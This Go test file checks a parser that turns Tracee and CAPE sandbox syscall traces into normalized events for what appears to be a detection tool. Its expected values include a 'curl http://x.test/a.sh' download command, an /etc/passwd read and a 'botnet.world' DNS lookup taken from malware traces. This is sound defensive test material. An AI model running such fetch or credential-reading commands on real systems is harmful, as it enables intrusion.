package tracee

import (
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ttpmap/ttpmap/event"
	"github.com/ttpmap/ttpmap/source"
	"github.com/ttpmap/ttpmap/source/sourcetest"
)

const (
	capeDir    = "../../../shared/datasets/cape"
	capeFile   = capeDir + "/tracee.json.analysis.json"
	samplesDir = "../../../shared/datasets/tracee/samples"
	docFile    = samplesDir + "/tracee-v0.23.2-doc-examples.jsonl"
)

// readAll reads data to the end and returns the events and record errors.
func readAll(t testing.TB, data []byte, name string) ([]*event.Event, []*source.RecordError) {
	t.Helper()
	return sourcetest.ReadAll(t, Format{}, bytes.NewReader(data), name)
}

func readDataset(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Skipf("dataset %s absent", filepath.Dir(path))
	}
	return data
}

// capeReference decodes the CAPE report with encoding/json, independently
// of the reader.
func capeReference(t *testing.T, data []byte) []map[string]any {
	t.Helper()
	var doc struct {
		Syscalls []map[string]any `json:"syscalls"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	return doc.Syscalls
}

func TestCAPEReport(t *testing.T) {
	t.Parallel()
	data := readDataset(t, capeFile)
	ref := capeReference(t, data)
	evs, errs := readAll(t, data, "cape")
	if len(errs) > 0 {
		t.Fatalf("record errors: %v", errs)
	}
	if len(evs) != 244 || len(ref) != 244 {
		t.Fatalf("got %d events, reference %d, want 244", len(evs), len(ref))
	}
	want, got := map[string]int{}, map[string]int{}
	for i, r := range ref {
		want[r["eventName"].(string)]++
		e := evs[i]
		got[e.Fields["EventName"]]++
		if pid := strconv.FormatFloat(r["processId"].(float64), 'f', -1, 64); e.Fields["ProcessId"] != pid || e.Fields["ProcessName"] != r["processName"] {
			t.Errorf("event %d: process %s/%s, want %s/%s", i, e.Fields["ProcessName"], e.Fields["ProcessId"], r["processName"], pid)
		}
		if e.Product != "linux" || e.Kind != Kind || e.Provider != "tracee" || e.Fields[event.FieldProvider] != "tracee" || e.Host != "ubuntu18" {
			t.Fatalf("event %d header: %+v", i, e)
		}
		if e.Time.IsZero() || e.Time.Location() != time.UTC || e.Time.Year() != 2025 {
			t.Errorf("event %d time %v", i, e.Time)
		}
		if data[e.Offset] != '{' {
			t.Errorf("event %d offset %d", i, e.Offset)
		}
		if e.RecordID != uint64(i+1) || e.Fields["idx"] != strconv.Itoa(i) {
			t.Errorf("event %d: RecordID %d idx %s", i, e.RecordID, e.Fields["idx"])
		}
	}
	if len(got) != len(want) {
		t.Errorf("event names: got %v, want %v", got, want)
	}
	for k, n := range want {
		if got[k] != n {
			t.Errorf("%s: %d events, want %d", k, got[k], n)
		}
	}
	procs := map[string]map[string]bool{}
	for _, e := range evs {
		if procs[e.Fields["ProcessName"]] == nil {
			procs[e.Fields["ProcessName"]] = map[string]bool{}
		}
		procs[e.Fields["ProcessName"]][e.Fields["ProcessId"]] = true
	}
	for name, pid := range map[string]string{"malware": "3466", "-sh": "3468", "bash": "3468"} {
		if !procs[name][pid] {
			t.Errorf("process %s pid %s missing: %v", name, pid, procs[name])
		}
	}
	var connects, inet, prctl, dns, network int
	// The connect syscall, its LSM hook and net_tcp_connect of one
	// connection are one network_connection: each (pid, destination) of
	// this trace is connected to once, so it is marked exactly once.
	marked, unmarked := map[string]int{}, map[string]int{}
	for _, e := range evs {
		f := e.Fields
		switch f["EventName"] {
		case "connect", "security_socket_connect":
			connects++
			fam := f["remote_addr.sa_family"] + f["addr.sa_family"]
			if fam == "AF_INET" || fam == "AF_INET6" {
				inet++
				if f["DestinationIp"] == "" || f["DestinationPort"] == "" || f["Initiated"] != "true" {
					t.Errorf("connect without destination: %v", f)
				}
				if f["NetworkEvent"] == "true" {
					marked[f["ProcessId"]+" "+f["DestinationIp"]+":"+f["DestinationPort"]]++
				} else {
					unmarked[f["ProcessId"]+" "+f["DestinationIp"]+":"+f["DestinationPort"]]++
				}
			} else if f["NetworkEvent"] != "" {
				t.Errorf("%s marked NetworkEvent: %v", fam, f)
			}
		case "prctl":
			prctl++
			if f["option"] != "PR_SET_NAME" || f["arg2"] == "" {
				t.Errorf("prctl: %v", f)
			}
		case "net_packet_dns":
			if f["QueryName"] != "botnet.world" || f["DnsEvent"] != "true" {
				t.Errorf("dns: %v", f)
			}
			dns++
		case "readlink":
			if f["TargetFilename"] != "/proc/self/exe" || f["buf"] != "/tmp/malware" {
				t.Errorf("readlink: %v", f)
			}
		}
		if f["NetworkEvent"] == "true" {
			network++
		}
		if f["User"] != "" && e.User != f["User"] {
			t.Errorf("User %q vs field %q", e.User, f["User"])
		}
	}
	for conn, n := range marked {
		if n != 1 {
			t.Errorf("connection %s marked NetworkEvent %d times", conn, n)
		}
	}
	for conn := range unmarked {
		if marked[conn] == 0 && !strings.HasPrefix(conn, " ") {
			t.Errorf("connection %s never marked NetworkEvent", conn)
		}
	}
	if connects != 18 || inet == 0 || prctl != 2 || dns != 1 || network < 3 {
		t.Errorf("connects %d (inet %d), prctl %d, dns %d, network %d", connects, inet, prctl, dns, network)
	}
}

// TestCAPEKeyOrder checks a report whose syscalls come before metadata.
func TestCAPEKeyOrder(t *testing.T) {
	t.Parallel()
	data := readDataset(t, capeFile)
	var doc map[string]json.RawMessage
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	swapped := []byte(`{"syscalls":` + string(doc["syscalls"]) + `,"extra":[1,{"a":2}],"metadata":` + string(doc["metadata"]) + "}")
	if (Format{}).Sniff(swapped[:min(len(swapped), source.SniffSize)]) != true {
		t.Fatal("Sniff rejects syscalls-first report")
	}
	evs, errs := readAll(t, swapped, "swapped")
	if len(evs) != 244 || len(errs) > 0 {
		t.Fatalf("%d events, errors %v", len(evs), errs)
	}
}

func TestDocExamples(t *testing.T) {
	t.Parallel()
	data := readDataset(t, docFile)
	evs, errs := readAll(t, data, "doc")
	if len(errs) > 0 {
		t.Fatalf("record errors: %v", errs)
	}
	if lines := bytes.Count(bytes.TrimSpace(data), []byte("\n")) + 1; len(evs) != lines || lines != 78 {
		t.Fatalf("%d events from %d lines", len(evs), lines)
	}
	var dns, files, dnsQ int
	for i, e := range evs {
		f := e.Fields
		if e.Offset < 0 || e.Offset >= int64(len(data)) || data[e.Offset] != '{' {
			t.Errorf("event %d offset %d", i, e.Offset)
		}
		switch f["EventName"] {
		case "net_packet_dns", "net_packet_dns_request", "net_packet_dns_response":
			dns++
			if f["QueryName"] == "" || f["SourceIp"] == "" || f["DestinationPort"] == "" {
				t.Errorf("dns event %d: %v", i, f)
			}
			if f["DnsEvent"] == "true" {
				dnsQ++
			}
		case "security_file_open":
			files++
			if f["TargetFilename"] != f["pathname"] || f["TargetFilename"] == "" || (f["FileEvent"] == "true") != strings.Contains(f["flags"], "O_WRONLY") {
				t.Errorf("security_file_open: %v", f)
			}
		case "execve":
			if f["Image"] != "/opt/cni/bin/bridge" || f["CommandLine"] != "/opt/cni/bin/bridge" || f["ExecEvent"] != "true" || e.User != "root" {
				t.Errorf("execve: %v", f)
			}
		case "mine":
			if f["metadata.Properties.signatureID"] != "Mine-0.1.0" {
				t.Errorf("signature: %v", f)
			}
		}
	}
	if dns < 11 || files != 2 || dnsQ == 0 || dnsQ == dns {
		t.Errorf("dns %d (questions %d), security_file_open %d", dns, dnsQ, files)
	}
}

func TestV1beta1(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("testdata/v1beta1.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	if !(Format{}).Sniff(data) {
		t.Fatal("Sniff rejects v1beta1")
	}
	evs, errs := readAll(t, data, "v1")
	if len(evs) != 2 || len(errs) > 0 {
		t.Fatalf("%d events, %v", len(evs), errs)
	}
	want := []map[string]string{
		{"EventName": "sched_process_exec", "ProcessId": "12345", "ParentProcessId": "1234", "UserId": "0", "User": "root",
			"ProcessName": "ls", "Image": "/usr/bin/ls", "CommandLine": "ls -la /tmp", "CurrentDirectory": "/root", "ExecEvent": "true", "Syscall": "execve"},
		{"EventName": "security_socket_connect", "DestinationIp": "2001:db8::1", "DestinationPort": "443", "Protocol": "tcp",
			"NetworkEvent": "true", "Initiated": "true", "Image": "/usr/bin/ls", "CommandLine": "ls -la /tmp", "sockfd": "3"},
	}
	for i, w := range want {
		for k, v := range w {
			if evs[i].Fields[k] != v {
				t.Errorf("event %d %s = %q, want %q", i, k, evs[i].Fields[k], v)
			}
		}
	}
	if got := evs[0].Time; !got.Equal(time.Unix(1732454400, 123456789)) {
		t.Errorf("time %v", got)
	}
}

func TestV02x(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("testdata/v02x.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	evs, errs := readAll(t, data, "old")
	if len(evs) != 4 || len(errs) != 1 {
		t.Fatalf("%d events, %v", len(evs), errs)
	}
	if errs[0].Line != 4 || data[errs[0].Offset] != 'n' {
		t.Errorf("error at line %d offset %d: %v", errs[0].Line, errs[0].Offset, errs[0])
	}
	cases := []struct {
		i    int
		want map[string]string
	}{
		{0, map[string]string{"ExecEvent": "true", "Image": "/usr/bin/curl", "CommandLine": "curl http://x.test/a.sh", "User": "root", "TargetFilename": ""}},
		{1, map[string]string{"FileEvent": "true", "TargetFilename": "/tmp/a.sh", "flags": "577", "Image": "/usr/bin/curl", "ProcessName": "curl"}},
		{2, map[string]string{"NetworkEvent": "true", "DestinationIp": "10.0.0.5", "DestinationPort": "8080", "User": "1000", "addr.sin_port": "8080"}},
		{3, map[string]string{"FileEvent": "", "TargetFilename": "/etc/passwd", "ParentImage": "/usr/bin/curl", "ParentCommandLine": "curl http://x.test/a.sh", "ParentProcessName": "curl", "Image": ""}},
	}
	for _, c := range cases {
		for k, v := range c.want {
			if got := evs[c.i].Fields[k]; got != v {
				t.Errorf("event %d %s = %q, want %q", c.i, k, got, v)
			}
		}
	}
}

func TestSniff(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		in   string
		want bool
	}{
		{"cape metadata first", `{"metadata": {"security_events": [], "proctree": {"pid": 0`, true},
		{"cape syscalls first", `{"syscalls": [{"timestamp": 1`, true},
		{"trace.Event", `{"timestamp":1,"processId":2,"eventId":"3","eventName":"openat","args":[]}`, true},
		{"trace.Event cut", `{"timestamp":1,"processId":2,"threadId":3,"eventId":"3","eventName":"ope`, true},
		{"v1beta1", `{"timestamp":{"seconds":"1"},"id":"x","name":"openat","policies":{"matched":[]},"workload":{}}`, true},
		{"nested eventName", `{"a":{"eventName":"x","processId":1}}`, false},
		{"value not key", `{"a":"eventName","b":"processId","c":"syscalls"}`, false},
		{"evtx_dump", `{"Event":{"System":{"EventID":4624}}}`, false},
		{"nxlog", `{"EventID":1,"SourceName":"Microsoft-Windows-Sysmon","name":"x","data":[1]}`, false},
		{"metadata only", `{"metadata":{"name":"x"}}`, false},
		{"traffic", `{"pcap_sha256":"ab","hosts":[],"tcp":[]}`, false},
		{"array", `[{"eventName":"x","processId":1}]`, false},
		{"text", `eventName processId`, false},
		{"empty", ``, false},
	}
	for _, c := range cases {
		if got := (Format{}).Sniff([]byte(c.in)); got != c.want {
			t.Errorf("%s: Sniff = %v, want %v", c.name, got, c.want)
		}
	}
	for _, p := range []string{"../jsonl/testdata/*.json", "../jsonl/testdata/*.ndjson", capeDir + "/traffic.json"} {
		files, _ := filepath.Glob(p)
		for _, file := range files {
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if (Format{}).Sniff(data[:min(len(data), source.SniffSize)]) {
				t.Errorf("Sniff claims %s", file)
			}
		}
	}
}

func TestProcStateBounded(t *testing.T) {
	t.Parallel()
	s := newProcState(3)
	for i := range 10 {
		s.put(strconv.Itoa(i)).name = "p" + strconv.Itoa(i)
	}
	if len(s.m) != 3 || s.get("9") == nil || s.get("6") != nil || s.get("7").name != "p7" {
		t.Errorf("state %v", s.m)
	}
}

func TestWriteFlags(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]bool{"": false, "0": false, "O_RDONLY": false, "O_RDONLY|O_CLOEXEC": false,
		"1": true, "2": true, "64": true, "577": true, "32768": false, "O_WRONLY|O_CREAT": true, "O_RDWR": true} {
		if got := writeFlags(in); got != want {
			t.Errorf("writeFlags(%q) = %v", in, got)
		}
	}
}

// FuzzRead checks that reading never panics or loops and that record
// errors and events point inside the input.
//
//	go test -run='^$' -fuzz=FuzzRead -fuzztime=30s ./source/tracee
func FuzzRead(f *testing.F) {
	for _, p := range []string{"testdata/v1beta1.jsonl", "testdata/v02x.jsonl"} {
		data, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	if data, err := os.ReadFile(docFile); err == nil {
		for _, l := range bytes.SplitAfter(data, []byte("\n"))[:10] {
			f.Add(l)
		}
	}
	f.Add([]byte(`{"metadata":{"proctree":{"pid":1,"details":{"processName":"a"},"children":{"2":{"pid":2}}},"security_events":[{"eventName":"x"}]},"syscalls":[{"eventName":"openat","processId":2,"args":[{"name":"flags","value":65}]},3,{"eventName":1}]}`))
	f.Add([]byte(`{"syscalls":null,"metadata":{"proctree":"x"}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 64<<10 {
			return
		}
		evs, errs := readAll(t, data, "fuzz")
		for _, re := range errs {
			if re.Offset < 0 || re.Offset > int64(len(data)) {
				t.Fatalf("error offset %d: %v", re.Offset, re)
			}
		}
		for _, e := range evs {
			if e.Offset < 0 || e.Offset > int64(len(data)) || e.Product != "linux" || e.Kind != Kind || e.Fields == nil {
				t.Fatalf("bad event %+v", e)
			}
		}
	})
}

// BenchmarkRead measures reading the CAPE report.
//
//	go test -run='^$' -bench=BenchmarkRead -benchmem ./source/tracee
func BenchmarkRead(b *testing.B) {
	data, err := os.ReadFile(capeFile)
	if err != nil {
		b.Skipf("dataset %s absent", capeDir)
	}
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		rd := NewReader(bytes.NewReader(data), "bench")
		for {
			_, err := rd.Read()
			if err == io.EOF {
				break
			}
			if err != nil {
				b.Fatal(err)
			}
		}
	}
}

// TestCAPEImageFromReadlink: the CAPE trace has no exec event; the
// malware's readlink("/proc/self/exe") is what names its binary, and every
// later event of that pid carries it.
func TestCAPEImageFromReadlink(t *testing.T) {
	data := readDataset(t, filepath.Join(capeDir, "tracee.json.analysis.json"))
	evs, _ := readAll(t, data, "tracee.json.analysis.json")
	seen := false
	for _, ev := range evs {
		if ev.Fields["ProcessId"] != "3468" {
			continue
		}
		if ev.Fields["EventName"] == "readlink" {
			seen = true
		}
		if got := ev.Fields["Image"]; seen && got != "/tmp/malware" {
			t.Fatalf("%s after readlink: Image %q", ev.Fields["EventName"], got)
		}
	}
	if !seen {
		t.Fatal("no readlink event for pid 3468")
	}
}
